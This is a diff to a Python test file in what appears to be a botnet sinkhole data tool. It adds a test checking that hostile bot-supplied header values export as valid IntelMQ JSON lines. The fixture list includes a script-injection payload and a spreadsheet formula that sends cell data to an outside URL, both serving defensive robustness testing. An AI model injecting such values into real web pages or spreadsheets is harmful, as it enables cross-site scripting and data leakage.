@@ -6,6 +6,7 @@ import csv
 import io
 import json
 from collections import Counter
+from collections.abc import Callable
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -23,8 +24,9 @@ from botcensus.export.event_sql import ENRICHED
 from botcensus.export.events import unenriched
 from botcensus.feeds import ingest, load_mapping
 from botcensus.model import SINKHOLE_FEED_NAME
-from botcensus.store import sighting_files
+from botcensus.store import iter_events, roll_segment, sighting_files
 
+T0_US = 1_714_521_600_000_000  # 2024-05-01T00:00:00Z
 SAMPLE = CASES / "2024-05-01-event4_sinkhole-sample.csv"
 ALL = ExportQuery(include_unclaimed=True)
 
@@ -183,3 +185,40 @@ def test_sinkhole_export_enriches_as_it_goes(sinkhole_data: Path) -> None:
     event = next(e for e in _lines(sinkhole_data) if e["source.ip"] == "5.14.3.4")
     assert (event["source.geolocation.cc"], event["source.asn"]) == ("RO", 8708)
     assert event["source.as_name"] == "RCS & RDS SA"
+
+
+HOSTILE = [
+    'quote " and backslash \\',
+    "line\nbreak\r\tand\x00nul\x1f",
+    "Café ☕ 𝄞",
+    "\\xff\\xfe",
+    "</script><script>alert(1)</script>",
+    '=HYPERLINK("http://x/?"&A1)',
+    "\u2028\u2029",
+]
+
+
+def test_hostile_values_leave_both_commands_as_the_same_valid_line(
+    tmp_path: Path, make_event: Callable[..., list[Any]], make_segment: Callable[..., Path]
+) -> None:
+    """Bots choose their headers: whatever was stored leaves `events` and `export` as the
+    same JSON line, which reads back to the stored value and which IntelMQ accepts."""
+    rows = [
+        make_event(
+            time_received=T0_US + i, user_agent=v, host=v, bot_id=v, malware_family="rustock"
+        )
+        for i, v in enumerate(HOSTILE)
+    ]
+    data = tmp_path / "data"
+    roll_segment(make_segment(data / "wal" / "w00-a-000001.wal", [rows]), data)
+    stored = [r for b in iter_events(data) for r in b.to_pylist()]
+    out = io.BytesIO()
+    export_events(data, ALL, "intelmq", out, unenriched)
+    recorded = _cli("events", "--data", str(data))
+    assert out.getvalue().decode() == recorded
+    events = [json.loads(line) for line in recorded.splitlines()]
+    assert len(events) == len(HOSTILE)
+    for event, row in zip(events, stored, strict=True):
+        for name, column in (("extra.user_agent", "user_agent"), ("extra.bot_id", "bot_id")):
+            assert event[name] == row[column]
+    assert harmonization_errors(recorded) == []
